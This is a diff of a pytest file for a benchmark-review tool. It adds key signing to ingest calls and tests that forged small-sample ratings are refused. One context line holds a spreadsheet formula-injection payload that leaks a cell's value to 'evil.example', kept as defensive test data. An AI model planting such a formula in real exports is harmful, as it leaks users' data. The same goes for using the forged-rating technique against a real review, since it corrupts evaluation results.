@@ -14,10 +14,20 @@ import subprocess
 from pathlib import Path
 
 import pytest
-from test_review import build_card, candidate, mteval, rate, sheet  # noqa: F401  (fixtures by name)
+from test_review import build_card, candidate, rate, sheet  # noqa: F401  (fixtures by name)
+from test_review import mteval as run_mteval
+from trust_keys import private
 
 from pytest_mteval.cards import runcard
 from pytest_mteval.review import chain, csv_cells, form, sample
+
+
+def mteval(*args):
+    """`mteval`, its `review ingest` signing with the governance key (`trust_keys`)."""
+    if args[:2] == ("review", "ingest"):
+        args = (*args, "--sign-key", private("governance"))
+    return run_mteval(*args)
+
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1)'
 #: entry index -> a prediction a spreadsheet or the page template could take for code
@@ -67,7 +77,7 @@ def one_line_refusal(done):
 def forged_small_ratings(tmp_path, card_path, size=1):
     """The attack of issue 21: ratings naming a sample of their own (-n1), one entry each."""
     card = runcard.load(card_path)
-    drawn = sample.draw(card, size, sample.DEFAULT_SEED)
+    drawn = sample.draw(card, size)
     files = []
     for name in ("Mallory", "Trudy"):
         rows = [
@@ -84,7 +94,7 @@ def test_ratings_cannot_choose_their_own_sample_size(own_card, tmp_path):
     out = tmp_path / "validated.json"
     done = mteval("review", "ingest", own_card, *files, "--out", out)
     line = one_line_refusal(done)
-    assert "n1-s12345" in line
+    assert "-n1-s" in line
     assert "recorded sample" in line
     assert not out.exists()
 
@@ -97,7 +107,7 @@ def test_a_sample_too_small_to_validate_is_not_drawn(own_card):
 
 def test_a_hand_made_small_sample_record_is_refused(own_card, tmp_path):
     card = runcard.load(own_card)
-    drawn = sample.draw(card, 1, sample.DEFAULT_SEED)
+    drawn = sample.draw(card, 1)
     record = own_card.parent / f"review-{drawn.sample_id}.sample.json"
     kept = {"kind": "mteval review sample", **drawn.record(), "card_hash": card["run_card_hash"]}
     record.write_text(json.dumps(kept), encoding="utf-8")
@@ -161,7 +171,7 @@ def test_coverage_counts_against_the_recorded_size(own_card, tmp_path):
 def test_a_validated_card_on_a_small_sample_does_not_verify(own_card, tmp_path):
     """The forged card the attack produced: one entry rated excellent by two names."""
     parent = runcard.load(own_card)
-    drawn = sample.draw(parent, 1, sample.DEFAULT_SEED)
+    drawn = sample.draw(parent, 1)
     [entry] = drawn.entry_ids()
     block = {
         "protocol": "benchmark spec §7.3",
@@ -197,7 +207,7 @@ def test_a_validated_card_on_a_small_sample_does_not_verify(own_card, tmp_path):
     assert done.returncode == 1
     assert "not the entries drawn from the parent" in done.stdout
     # a real sample of 30, with ratings of entries outside it, or counts that are not theirs
-    real = sample.draw(parent, 30, sample.DEFAULT_SEED)
+    real = sample.draw(parent, 30)
     outside = next(
         r["entry_id"] for r in parent["results"] if r["entry_id"] not in real.entry_ids()
     )
